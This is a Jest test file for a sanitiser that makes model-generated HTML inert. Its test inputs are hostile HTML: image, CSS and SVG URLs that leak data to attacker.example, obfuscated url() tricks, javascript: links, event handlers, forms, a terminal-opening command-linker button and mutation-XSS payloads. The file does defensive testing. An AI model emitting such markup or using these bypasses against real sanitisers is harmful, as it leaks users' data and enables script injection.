/**
 * Specs of the transform that makes the model's HTML inert (src/untrusted/html.ts): what
 * loads from elsewhere is dropped or written as text, embedded images and http(s) links
 * stay. Each hostile input is checked by the oracle of ./loads.ts, which would find the
 * fetch the transform let through.
 */

import { heldImageText, inertCss, inertHtml, linkAddress, makeInert } from '../../untrusted';
import { loads } from './loads';

/** A 1x1 PNG. */
const DOT =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

/** `html` made inert, as a div holding it. */
function inert(html: string): HTMLDivElement {
  const out = inertHtml(html);
  expect(loads(out)).toEqual([]);
  const host = document.createElement('div');
  host.innerHTML = out;
  return host;
}

describe('images', () => {
  it('writes a remote image as text naming its address, as the server does', () => {
    const html = '<p>North leads <img src="http://attacker.example/?d=North-1204" alt="chart"></p>';
    expect(loads(html)).not.toEqual([]);
    const host = inert(html);
    expect(host.querySelector('img')).toBeNull();
    expect(host.textContent).toBe(
      'North leads [image: chart, http://attacker.example/?d=North-1204]'
    );
    // The wording of jupyter_analyst/untrusted.py's answer_html.
    expect(heldImageText('chart', 'http://attacker.example/c.png?q=secret')).toBe(
      '[image: chart, http://attacker.example/c.png?q=secret]'
    );
    expect(inert('<img src="https://attacker.example/x.png">').textContent).toBe(
      '[image, https://attacker.example/x.png]'
    );
  });

  it('does the same for relative images, which would load from the Jupyter server', () => {
    expect(inert('<img src="files/secret.png" alt="s">').textContent).toBe(
      '[image: s, files/secret.png]'
    );
    expect(inert('<img src="//attacker.example/x">').textContent).toBe(
      '[image, //attacker.example/x]'
    );
  });

  it('keeps embedded images, without their other sources', () => {
    const host = inert(`<img src="${DOT}" alt="dot" srcset="https://attacker.example/2x.png 2x">`);
    const img = host.querySelector('img')!;
    expect(img.getAttribute('src')).toBe(DOT);
    expect(img.hasAttribute('srcset')).toBe(false);
  });

  it('names an embedded image of another type by its type only', () => {
    expect(inert('<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">').textContent).toBe(
      '[image, data:image/svg+xml…]'
    );
  });

  it('does not load an image given by srcset alone, or by a picture source', () => {
    expect(
      inert(
        '<img srcset="https://attacker.example/a.png 1x, https://attacker.example/b.png 2x" alt="a">'
      ).textContent
    ).toBe('[image: a, https://attacker.example/a.png 1x, https://attacker.example/b.png 2x]');
    const host = inert(
      `<picture><source srcset="https://attacker.example/p.webp"><img src="${DOT}"></picture>`
    );
    expect(host.querySelector('source')).toBeNull();
    expect(host.querySelector('img')!.getAttribute('src')).toBe(DOT);
  });

  it('loads no poster, media source, image input or table background', () => {
    const host = inert(
      '<video poster="https://attacker.example/p.png" src="https://attacker.example/v.mp4"><source src="https://attacker.example/s.mp4"><track src="https://attacker.example/t.vtt"></video>' +
        '<audio src="https://attacker.example/a.mp3"></audio><input type="image" src="https://attacker.example/i.png">' +
        '<table background="https://attacker.example/t.png"><tr><td background="https://attacker.example/td.png">1</td></tr></table>'
    );
    expect(host.innerHTML).not.toContain('attacker.example');
    expect(host.querySelector('video, audio, source, track')).toBeNull();
    expect(host.querySelector('input')!.getAttribute('type')).toBe('image');
  });

  it('drops what loads or runs whole: frames, objects, links, meta, base', () => {
    const host = inert(
      '<iframe src="https://attacker.example/f"></iframe><object data="https://attacker.example/o"></object>' +
        '<embed src="https://attacker.example/e"><link rel="stylesheet" href="https://attacker.example/s.css">' +
        '<meta http-equiv="refresh" content="0;url=https://attacker.example/"><base href="https://attacker.example/">' +
        '<script src="https://attacker.example/s.js"></script><p>kept</p>'
    );
    expect(host.innerHTML).toBe('<p>kept</p>');
  });
});

describe('styles', () => {
  it('drops an inline style that loads, and keeps one that does not', () => {
    const host = inert(
      '<span style="background-image: url(https://attacker.example/bg.png)">a</span>' +
        '<span style="color: red; background: linear-gradient(red, rgb(0 0 255))">b</span>'
    );
    const [a, b] = Array.from(host.querySelectorAll('span'));
    expect(a.hasAttribute('style')).toBe(false);
    expect(b.getAttribute('style')).toBe(
      'color: red; background: linear-gradient(red, rgb(0 0 255))'
    );
  });

  it('sees a url however it is written: case, escapes, comments, image-set, cursors, list markers', () => {
    for (const style of [
      'background: URL("https://attacker.example/1")',
      'background: u\\72l(https://attacker.example/2)',
      'background: u\\000072l(https://attacker.example/3)',
      'color: red/*;background:url(https://attacker.example/4)*/',
      'background-image: image-set("https://attacker.example/5.png" 1x)',
      'background-image: -webkit-image-set(url(https://attacker.example/6.png) 1x)',
      'cursor: url(https://attacker.example/7.cur), auto',
      'list-style: url(https://attacker.example/8.png)',
      'border-image: url(https://attacker.example/9.png) 30',
      '--x: url(https://attacker.example/10.png); background: var(--x)',
      'content: attr(data-x url)'
    ]) {
      expect([style, inertCss(style)]).toEqual([style, false]);
      expect(inert(`<b style='${style}'>x</b>`).querySelector('b')!.hasAttribute('style')).toBe(
        false
      );
    }
  });

  it('removes style elements, in HTML and in SVG', () => {
    const host = inert(
      '<style>@import url(https://attacker.example/a.css); p { background: url(https://attacker.example/b.png) }</style>' +
        '<svg><style>rect { fill: url(https://attacker.example/c.svg#p) }</style><rect/></svg>'
    );
    expect(host.querySelector('style')).toBeNull();
    expect(host.querySelector('rect')).not.toBeNull();
  });
});

describe('SVG', () => {
  it('writes a remote <image> as text after its SVG, by href or xlink:href', () => {
    const host = inert(
      '<svg width="10" height="10"><g><image href="https://attacker.example/svg.png?d=1" width="10" height="10"/></g></svg>' +
        '<svg><image xlink:href="https://attacker.example/xlink.png"/></svg>'
    );
    expect(host.querySelector('image')).toBeNull();
    expect(host.querySelectorAll('svg')).toHaveLength(2);
    expect(host.textContent).toBe(
      ' [image, https://attacker.example/svg.png?d=1] [image, https://attacker.example/xlink.png]'
    );
  });

  it('keeps an embedded <image>, and references to places in the same SVG', () => {
    const host = inert(
      `<svg><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs>` +
        `<image href="${DOT}"/><rect fill="url(#g)" transform="rotate(45)"/><use href="#g"/></svg>`
    );
    expect(host.querySelector('image')!.getAttribute('href')).toBe(DOT);
    expect(host.querySelector('rect')!.getAttribute('fill')).toBe('url(#g)');
    expect(host.querySelector('rect')!.getAttribute('transform')).toBe('rotate(45)');
    expect(host.querySelector('use')!.getAttribute('href')).toBe('#g');
  });

  it('loads no outside reference, filter or paint, and runs no animation', () => {
    const host = inert(
      '<svg><use href="https://attacker.example/sprite.svg#a"/><feImage href="https://attacker.example/f.png"/>' +
        '<rect fill="url(https://attacker.example/p.svg#p)" filter="url(https://attacker.example/f.svg#f)" style="mask: url(https://attacker.example/m.svg#m)"/>' +
        '<a><set attributeName="href" to="https://attacker.example/set"/><animate attributeName="href" values="https://attacker.example/anim"/>x</a></svg>'
    );
    expect(host.querySelector('use')!.hasAttribute('href')).toBe(false);
    expect(host.querySelector('rect')!.attributes).toHaveLength(0);
    expect(host.querySelector('set, animate')).toBeNull();
    expect(host.innerHTML).not.toContain('attacker.example/set');
  });
});

describe('links', () => {
  it('keeps http(s) and mailto links, opened in a new tab without opener or referrer', () => {
    const host = inert(
      '<a href="https://example.org/report" target="_self" rel="opener">r</a> <a href="mailto:analyst@example.org">m</a>'
    );
    for (const a of Array.from(host.querySelectorAll('a'))) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
    expect(host.querySelector('a')!.getAttribute('href')).toBe('https://example.org/report');
  });

  it('leaves javascript:, data: and relative links as their text', () => {
    const host = inert(
      '<a href="javascript:alert(1)">j</a><a href=" JaVa&#x09;Script:alert(1)">t</a><a href="data:text/html,<script>x</script>">d</a>' +
        '<a href="files/secret.csv">f</a><a href="/api/contents">a</a><a href="//attacker.example/x">p</a><area href="vbscript:x">'
    );
    for (const link of Array.from(host.querySelectorAll('a, area'))) {
      expect(link.hasAttribute('href')).toBe(false);
    }
    expect(host.textContent).toBe('jtdfap');
  });

  it('writes a link as the browser reads it, so it cannot turn relative', () => {
    expect(linkAddress('http:files/secret.csv')).toBe('http://files/secret.csv');
    expect(inert('<a href="http:files/x">x</a>').querySelector('a')!.getAttribute('href')).toBe(
      'http://files/x'
    );
    expect(linkAddress('https://example.org/a b')).toBe('https://example.org/a%20b');
  });

  it('keeps a place in the page as it is, and SVG links under the same rules', () => {
    const host = inert(
      '<a href="#totals">t</a><svg><a href="javascript:alert(1)"><text>j</text></a><a xlink:href="https://example.org/">e</a></svg>'
    );
    const [place, js, out] = Array.from(host.querySelectorAll('a'));
    expect(place.getAttribute('href')).toBe('#totals');
    expect(place.hasAttribute('target')).toBe(false);
    expect(js.hasAttribute('href')).toBe(false);
    expect(out.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('sends no ping and starts no download', () => {
    const a = inert(
      '<a href="https://example.org/" ping="https://attacker.example/ping" download="x.html">x</a>'
    ).querySelector('a')!;
    expect(a.hasAttribute('ping')).toBe(false);
    expect(a.hasAttribute('download')).toBe(false);
  });
});

describe('what acts on a click', () => {
  it('drops event handlers, command linkers, forms and popover or dialog invokers', () => {
    const host = inert(
      '<form action="https://attacker.example/f"><button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}" onclick="x()">go</button></form>' +
        '<button form="jp-some-form" formaction="https://attacker.example/" popovertarget="jp-menu" commandfor="jp-dialog" command="show-modal">b</button>'
    );
    expect(host.querySelector('form')).toBeNull();
    for (const button of Array.from(host.querySelectorAll('button'))) {
      expect(button.attributes).toHaveLength(0);
    }
    expect(host.textContent).toBe('gob');
  });
});

describe('markup that parses differently the second time', () => {
  it('is parsed until settled: what the browser builds from the result is what was checked', () => {
    for (const html of [
      '<svg><p><style><img src="https://attacker.example/1" onerror="x()"></style></p></svg>',
      '<math><mtext><table><mglyph><style><img src="https://attacker.example/2">',
      '<noscript><p title="</noscript><img src=https://attacker.example/3>"></noscript>',
      '<svg></p><style><a id="</style><img src=https://attacker.example/4>">',
      '<form><math><mtext></form><form><mglyph><style></math><img src="https://attacker.example/5">',
      '<xmp><img src="https://attacker.example/6"></xmp><template><img src="https://attacker.example/7"></template>'
    ]) {
      const out = inertHtml(html);
      expect([html, loads(out)]).toEqual([html, []]);
      const again = document.implementation.createHTMLDocument('').body;
      again.innerHTML = out;
      expect([html, makeInert(again)]).toEqual([html, 0]);
    }
  });
});
